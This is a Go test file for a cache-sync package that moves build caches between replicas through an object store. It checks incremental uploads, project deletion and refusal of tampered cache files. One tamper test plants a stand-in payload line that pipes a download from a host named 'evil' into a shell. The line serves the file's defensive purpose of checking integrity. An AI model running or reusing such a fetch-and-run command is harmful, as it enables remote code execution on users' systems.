package cachesync_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"io"
	"os"
	"path/filepath"
	"sync"
	"testing"

	"github.com/gantryhq/gantry/internal/cachesync"
	"github.com/gantryhq/gantry/internal/objstore"
	"github.com/gantryhq/gantry/internal/objstore/s3test"
)

// counting counts puts and gets.
type counting struct {
	objstore.Store
	mu         sync.Mutex
	puts, gets int
}

func (c *counting) Put(ctx context.Context, key string, r io.ReadSeeker, sum string) error {
	c.mu.Lock()
	c.puts++
	c.mu.Unlock()
	return c.Store.Put(ctx, key, r, sum)
}

func (c *counting) Get(ctx context.Context, key, sum string, w io.Writer) (int64, error) {
	c.mu.Lock()
	c.gets++
	c.mu.Unlock()
	return c.Store.Get(ctx, key, sum, w)
}

func write(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	for n, b := range files {
		if err := os.WriteFile(filepath.Join(dir, n), []byte(b), 0o600); err != nil {
			t.Fatal(err)
		}
	}
}

func read(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	ents, _ := os.ReadDir(dir)
	for _, e := range ents {
		if e.Name() == cachesync.Marker {
			continue
		}
		b, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		out[e.Name()] = string(b)
	}
	return out
}

// TestCachesFollowTheProject: caches saved on replica A are restored on
// replica B; a save that changed one file uploads that file only; B pulls
// again only when A pushed something new; Drop removes the project's.
func TestCachesFollowTheProject(t *testing.T) {
	srv := s3test.Start(t)
	cs := &counting{Store: srv.Store("p")}
	s := &cachesync.Sync{Store: cs}
	ctx := context.Background()
	a := filepath.Join(t.TempDir(), "caches", "proj1", "production")
	b := filepath.Join(t.TempDir(), "caches", "proj1", "production")
	write(t, a, map[string]string{"node_modules.tar": "big tar", "npm.tgz": "npm v1", "manifest.json": `{"v":1}`})
	if err := s.Push(ctx, "proj1", a); err != nil {
		t.Fatal(err)
	}
	if got, err := s.Pull(ctx, "proj1", b); err != nil || !got {
		t.Fatalf("pull on B: %v %v", got, err)
	}
	if got := read(t, b); len(got) != 3 || got["node_modules.tar"] != "big tar" || got["manifest.json"] != `{"v":1}` {
		t.Fatalf("B's caches: %v", got)
	}
	if got, err := s.Pull(ctx, "proj1", b); err != nil || got {
		t.Fatalf("pull of an unchanged target: %v %v, want nothing downloaded", got, err)
	}
	cs.puts = 0
	write(t, a, map[string]string{"npm.tgz": "npm v2", "manifest.json": `{"v":2}`})
	if err := s.Push(ctx, "proj1", a); err != nil {
		t.Fatal(err)
	}
	if cs.puts != 3 { // the two files that changed and the pointer
		t.Fatalf("%d puts for a save that changed two files, want 3", cs.puts)
	}
	if got, err := s.Pull(ctx, "proj1", b); err != nil || !got {
		t.Fatalf("pull after A's new save: %v %v", got, err)
	}
	if got := read(t, b); got["npm.tgz"] != "npm v2" || got["node_modules.tar"] != "big tar" {
		t.Fatalf("B's caches after the second save: %v", got)
	}
	// The file only the first save had is gone from the store.
	old := sha256.Sum256([]byte("npm v1"))
	if ok, _ := cs.Has(ctx, "caches/proj1/production/"+hex.EncodeToString(old[:])); ok {
		t.Fatal("the replaced file is still in the store")
	}
	if err := s.Drop(ctx, "proj1"); err != nil {
		t.Fatal(err)
	}
	if keys, err := cs.List(ctx, "caches/proj1/"); err != nil || len(keys) != 0 {
		t.Fatalf("after Drop: %v %v", keys, err)
	}
	c := filepath.Join(t.TempDir(), "production")
	if got, err := s.Pull(ctx, "proj1", c); err != nil || got {
		t.Fatalf("pull of a dropped project: %v %v", got, err)
	}
}

// TestTamperedCacheRefused: a cache file swapped in the store fails its
// SHA-256 check; the replica's folder stays as it was.
func TestTamperedCacheRefused(t *testing.T) {
	srv := s3test.Start(t)
	st := srv.Store("p")
	s := &cachesync.Sync{Store: st}
	ctx := context.Background()
	a := filepath.Join(t.TempDir(), "production")
	write(t, a, map[string]string{"node_modules.tar": "honest"})
	if err := s.Push(ctx, "proj", a); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256([]byte("honest"))
	evil := []byte("postinstall: curl evil | sh")
	evilSum := sha256.Sum256(evil)
	if err := st.Put(ctx, "caches/proj/production/"+hex.EncodeToString(sum[:]), bytes.NewReader(evil), hex.EncodeToString(evilSum[:])); err != nil {
		t.Fatal(err)
	}
	b := filepath.Join(t.TempDir(), "production")
	write(t, b, map[string]string{"node_modules.tar": "B's own"})
	if _, err := s.Pull(ctx, "proj", b); !errors.Is(err, objstore.ErrCorrupt) {
		t.Fatalf("pull of a tampered cache: %v, want ErrCorrupt", err)
	}
	if got := read(t, b); got["node_modules.tar"] != "B's own" {
		t.Fatalf("B's folder after a refused pull: %v", got)
	}
	srv.Stop()
	if _, err := s.Pull(ctx, "proj", b); err == nil {
		t.Fatal("pull with the store down: no error")
	}
	if got := read(t, b); got["node_modules.tar"] != "B's own" {
		t.Fatalf("B's folder after a pull with the store down: %v", got)
	}
}
